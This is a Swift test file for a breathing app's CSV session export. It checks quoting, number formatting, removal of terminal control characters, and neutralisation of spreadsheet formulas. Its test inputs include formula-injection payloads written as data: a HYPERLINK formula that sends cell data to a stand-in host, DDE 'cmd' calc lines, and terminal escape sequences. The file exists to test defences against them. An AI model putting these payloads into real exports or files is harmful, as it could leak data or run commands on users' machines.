import BreatheCore
import Foundation
import Testing

/// CSV safe to open: every expected row below is written out by hand.
extension SessionCSVTests {
    func session(_ id: String, pattern: String, practiced: Double = 60) -> SessionRecord {
        let start = LocalTimestamp(iso8601: "2026-11-01T20:00:00+08:00")!
        return SessionRecord(id: id, programID: nil, lessonID: nil, pattern: pattern, startedAt: start, endedAt: start.adding(seconds: 60), plannedSeconds: 60, practicedSeconds: practiced, counted: false, endReason: .finished)
    }

    func document(_ sessions: [SessionRecord], programs: [Program] = []) -> String {
        SessionCSV.document(ProgressStore(sessions: sessions), catalogue: Catalogue(programs: programs, warnings: []))
    }

    static let headerRow = "id,startedAt,endedAt,programID,program,lessonID,lesson,pattern,plannedSeconds,practicedSeconds,counted,endReason,patternTo,holds\r\n"

    @Test func rowsEndWithCRLFAndQuotedCellsDoubleTheirQuotes() {
        let text = document([session("s1", pattern: "4-6", practiced: 12.5), session("s2", pattern: "box, \"square\"")])
        #expect(text == Self.headerRow
            + "s1,2026-11-01T20:00:00+08:00,2026-11-01T20:01:00+08:00,,,,,4-6,60,12.5,false,finished,,\r\n"
            + "s2,2026-11-01T20:00:00+08:00,2026-11-01T20:01:00+08:00,,,,,\"box, \"\"square\"\"\",60,60,false,finished,,\r\n")
    }

    /// Numbers are data, written as the JSON export writes them: the smallest practice a
    /// record can hold is 5e-324, never the words a person is told ("almost 0").
    @Test func numbersAreWrittenAsData() {
        let text = document([session("s1", pattern: "4-6", practiced: Double.leastNonzeroMagnitude), session("s2", pattern: "4-6", practiced: 59.999)])
        #expect(text == Self.headerRow
            + "s1,2026-11-01T20:00:00+08:00,2026-11-01T20:01:00+08:00,,,,,4-6,60,5e-324,false,finished,,\r\n"
            + "s2,2026-11-01T20:00:00+08:00,2026-11-01T20:01:00+08:00,,,,,4-6,60,59.999,false,finished,,\r\n")
    }

    @Test func theRowsForATerminalAreTheSameRowsWithoutLineEnds() {
        let store = ProgressStore(sessions: [session("s1", pattern: "=1+1")])
        let rows = SessionCSV.rows(store, catalogue: Catalogue(programs: [], warnings: []))
        #expect(rows == ["id,startedAt,endedAt,programID,program,lessonID,lesson,pattern,plannedSeconds,practicedSeconds,counted,endReason,patternTo,holds", "s1,2026-11-01T20:00:00+08:00,2026-11-01T20:01:00+08:00,,,,,'=1+1,60,60,false,finished,,"])
        #expect(rows.map { $0 + "\r\n" }.joined() == document([session("s1", pattern: "=1+1")]))
    }

    @Test(arguments: [
        // A terminal's escapes: OSC (retitle the window) and CSI, in C0 and C1 form.
        ("\u{1b}]0;pwned\u{07}4-6", "]0;pwned4-6"),
        ("\u{9b}31m4-6\u{9b}0m", "31m4-60m"),
        ("\u{1b}[2J4-7-8", "[2J4-7-8"),
        // DEL, NUL, bidirectional overrides and isolates go; line breaks and tabs become spaces.
        ("4\u{7f}-6\u{0}", "4-6"),
        ("\u{202e}6-4\u{202c}", "6-4"),
        ("\u{2066}box\u{2069}", "box"),
        ("slow\nand\teven\r\nbreath", "slow and even  breath"),
        ("a\u{2028}b\u{85}c", "a b c"),
        // Text that was already safe stays exactly as it was, wide characters too.
        ("呼吸 4-6 ✓", "呼吸 4-6 ✓"),
    ])
    func controlCharactersAreTakenOutOfCells(pattern: String, cell: String) {
        #expect(SessionCSV.cell(pattern) == cell)
        #expect(!SessionCSV.cell(pattern).unicodeScalars.contains(where: TerminalText.isControl))
    }

    @Test(arguments: [
        ("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\""),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("-", "'-"),
        ("-4-6", "'-4-6"),
        ("--3", "'--3"),
        ("-3.", "'-3."),
        ("-.5", "'-.5"),
        ("-1e3", "'-1e3"),
        // Tab and CR at the start are spaces by then; what follows them is still seen.
        ("\t=1+1", "' =1+1"),
        ("\r=1+1", "' =1+1"),
        ("  @x", "'  @x"),
        // A control before the formula is dropped first, so it cannot hide the formula.
        ("\u{07}=1+1", "'=1+1"),
        ("\u{1b}=1+1", "'=1+1"),
        // Full-width forms, which some spreadsheets read as the same.
        ("＝1+1", "'＝1+1"),
        ("＠x", "'＠x"),
        // Numbers stay numbers.
        ("-3", "-3"),
        ("-0.5", "-0.5"),
        ("+2", "+2"),
        ("12.5", "12.5"),
        // Not at the start: nothing to neutralise.
        ("4-6", "4-6"),
        ("a=b", "a=b"),
        ("'=1", "'=1"),
    ])
    func cellsThatASpreadsheetWouldRunGetALeadingApostrophe(text: String, cell: String) {
        #expect(SessionCSV.cell(text) == cell)
    }

    @Test func aProgramsTitlesAreMadeSafeToo() throws {
        let json = #"{"id": "odd", "title": "=cmd|' /C calc'!A0", "summary": "S", "lessons": [{"id": "l", "title": "@lesson\u001b]0;x\u0007", "pattern": "box", "cycles": 1}]}"#
        let program = try ProgramDecoder.decode(Data(json.utf8), file: "odd.json", source: .builtIn)
        let start = LocalTimestamp(iso8601: "2026-11-01T20:00:00+08:00")!
        let lesson = SessionRecord(id: "s1", programID: "odd", lessonID: "l", pattern: "box", startedAt: start, endedAt: start.adding(seconds: 16), plannedSeconds: 16, practicedSeconds: 16, counted: true, endReason: .finished)
        #expect(document([lesson], programs: [program]) == Self.headerRow
            + "s1,2026-11-01T20:00:00+08:00,2026-11-01T20:00:16+08:00,odd,'=cmd|' /C calc'!A0,l,'@lesson]0;x,box,16,16,true,finished,,\r\n")
    }
}
